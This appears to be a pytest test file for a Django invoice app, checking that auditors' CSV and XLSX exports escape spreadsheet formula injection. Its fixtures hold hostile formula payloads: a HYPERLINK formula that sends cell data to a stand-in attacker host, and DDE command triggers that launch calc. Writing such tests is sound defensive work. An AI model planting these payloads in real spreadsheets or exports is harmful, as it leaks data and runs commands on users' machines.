"""An auditor's export never carries a live spreadsheet formula from a message."""

import csv
import io
import re

import openpyxl
import pytest

from invoices.models import Invoice, StatusChange
from tests.fixtures import invoices as data
from tests.invoices.conftest import SEND, csrf_of

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open invoice")'
DANGEROUS = {
    HYPERLINK: "'" + HYPERLINK,
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


@pytest.fixture
def hostile_invoice(webhook):
    """An invoice whose supplier's legal name is a spreadsheet formula."""
    body = data.network_invoice()
    body["invoice"]["supplierDetails"]["legalName"] = HYPERLINK
    response = webhook(SEND, body)
    assert response.status_code == 200, response.content
    invoice = Invoice.objects.get(object_id=data.OBJECT_ID)
    assert invoice.supplier_legal_name == HYPERLINK
    return invoice


def export(client, changelist: str, file_format: str):
    """Download the export of a changelist through the admin's export form."""
    page = client.get(changelist + "export/")
    assert page.status_code == 200
    html = page.content.decode()
    match = re.search(rf'<option value="(\d+)"[^>]*>\s*{file_format}\s*</option>', html)
    assert match, f"no {file_format} export offered"
    fields = re.findall(r'name="(\w+resource_\w+)"', html)
    response = client.post(
        changelist + "export/",
        {
            "csrfmiddlewaretoken": csrf_of(page),
            "format": match.group(1),
            "resource": "0",
            **dict.fromkeys(fields, "on"),
        },
    )
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    return response.content


def test_a_formula_in_a_supplier_name_comes_out_inert_in_csv(hostile_invoice, login):
    rows = list(
        csv.DictReader(
            io.StringIO(export(login("auditor"), "/admin/invoices/invoice/", "csv").decode())
        )
    )
    assert [row["supplier_legal_name"] for row in rows] == ["'" + HYPERLINK]
    # numbers and plain text are left as they are
    assert rows[0]["total_value"] == "25488.00"
    assert rows[0]["supplier_invoice_number"] == "SGST/26-27/0458"


@pytest.mark.parametrize(("remarks", "escaped"), DANGEROUS.items())
def test_every_formula_trigger_is_escaped_in_the_history_export(
    hostile_invoice, login, remarks, escaped
):
    StatusChange.objects.filter(invoice=hostile_invoice).update(remarks=remarks)
    content = export(login("auditor"), "/admin/invoices/statuschange/", "csv").decode()
    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    assert {row["remarks"] for row in rows} == {escaped}


@pytest.mark.parametrize("text", ["-12.50", "+919845012345", "Rs. -5", "a=b", ""])
def test_numbers_and_text_not_starting_a_formula_are_unchanged(hostile_invoice, login, text):
    StatusChange.objects.filter(invoice=hostile_invoice).update(remarks=text)
    content = export(login("auditor"), "/admin/invoices/statuschange/", "csv").decode()
    assert {row["remarks"] for row in csv.DictReader(io.StringIO(content))} == {text}


def test_a_formula_comes_out_as_text_in_xlsx(hostile_invoice, login):
    content = export(login("auditor"), "/admin/invoices/invoice/", "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("supplier_legal_name") + 1)
    assert (cell.value, cell.data_type) == ("'" + HYPERLINK, "s")
